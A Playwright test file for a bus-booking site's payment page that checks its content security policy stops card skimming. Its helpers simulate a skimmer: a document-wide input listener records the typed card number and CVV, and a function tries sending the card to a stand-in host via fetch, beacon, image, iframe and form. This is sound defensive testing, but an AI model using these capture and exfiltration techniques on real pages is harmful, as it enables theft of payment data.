import { type APIRequestContext, expect, type Page } from '@playwright/test'
import { cardTracesIn } from '../after/card-traces.ts'
import { findStage, freePairOf } from '../find-journey.ts'
import { callReleaseApi } from '../ops-origin.ts'
import { openBus, pickPair } from '../seats.ts'
import { cvv, fillCard, goodCard } from '../traveller.ts'
import { test } from '../story-test.ts'

/** No machine has this name: whatever gets so far is refused by the page's policy or not at all. */
const elsewhere = 'http://elsewhere.invalid'

test.use({ refusals: /elsewhere\.invalid/ })

// What docs/guides/card-form.md says of a script on another page of the same tab.
test('a script of the results page is gone where the card is typed; one of that page reads it and calls nobody else @desktop', async ({
  page,
  request,
}) => {
  const stage = await findStage(request, 1)
  const pair = freePairOf(stage)
  const map = await openBus(page, stage)
  await listen(page)
  await pickPair(page, map, pair)
  await page.getByRole('button', { name: 'Devam et' }).click()
  await expect(page).toHaveURL(/\/odeme\?/)
  await fillCard(page, goodCard)
  expect(await typed(page), 'the page of the card has a document of its own').toEqual([])
  expect(await modulesOf(page)).toEqual(['host', 'mf-booking'])

  await listen(page)
  await fillCard(page, goodCard)
  const read = (await typed(page)).map((value) => value.replaceAll(' ', ''))
  expect(read, 'the same document, the same realm').toEqual(expect.arrayContaining([goodCard, cvv]))
  expect(await send(page, elsewhere), 'what the policy refuses').toEqual([
    'connect-src',
    'form-action',
    'frame-src',
    'img-src',
  ])
  await expect
    .poll(() => toldOf(request), 'what the browser has told ops, with no card in it')
    .toEqual(['connect-src', 'form-action', 'frame-src', 'img-src'])
  expect(await storedIn(page), 'the draft is there, the card is not').toContain('passengers')
  expect(cardTracesIn(await storedIn(page))).toEqual([])

  await page.reload()
  await expect(page.getByLabel('Kart numarası')).toHaveValue('')
  await fillCard(page, goodCard)
  expect(await typed(page), 'the script is gone').toEqual([])
  expect(cardTracesIn(await storedIn(page))).toEqual([])
})

/** Whose scripts this document has asked for. */
const modulesOf = (page: Page) =>
  page.evaluate(() =>
    [
      ...new Set(
        performance
          .getEntriesByType('resource')
          .flatMap(({ name }) => /\/modules\/([\w-]+)\/.*\.js$/.exec(name)?.[1] ?? []),
      ),
    ].toSorted(),
  )

/** What a remote's code could do when its page is shown. */
const listen = (page: Page) =>
  page.evaluate(() => {
    const values: string[] = []
    Reflect.set(window, 'typed', values)
    document.addEventListener(
      'input',
      ({ target }) => {
        if (target instanceof HTMLInputElement) values.push(target.value)
      },
      true,
    )
  })

const typed = (page: Page) =>
  page.evaluate(() => {
    const values: unknown = Reflect.get(window, 'typed')
    return Array.isArray(values) ? values.map(String) : []
  })

/** The ways out that need no other page; answers which rule of the policy stood in each. */
const send = (page: Page, to: string) =>
  page.evaluate(async (address) => {
    const rules = new Set<string>()
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      rules.add(effectiveDirective),
    )
    await fetch(address, { mode: 'no-cors' }).catch(() => undefined)
    navigator.sendBeacon(address, 'card')
    new Image().src = `${address}/?card`
    const frame = document.createElement('iframe')
    frame.sandbox.add('allow-scripts')
    frame.src = address
    document.body.append(frame)
    const form = document.createElement('form')
    form.action = address
    form.method = 'post'
    document.body.append(form)
    form.submit()
    await new Promise((done) => window.setTimeout(done, 500))
    return [...rules].toSorted()
  }, to)

/** Which rules have refused, on the payment page, what goes to that machine. */
async function toldOf(request: APIRequestContext): Promise<string[]> {
  const { reports }: { reports: { rule: string; blocked: string; route: string | null }[] } = await (
    await callReleaseApi(request, 'policy-reports')
  ).json()
  return reports
    .filter(({ blocked, route }) => blocked === elsewhere && route === '/odeme')
    .map(({ rule }) => rule)
    .toSorted()
}

const storedIn = (page: Page) =>
  page.evaluate(() =>
    JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie]),
  )
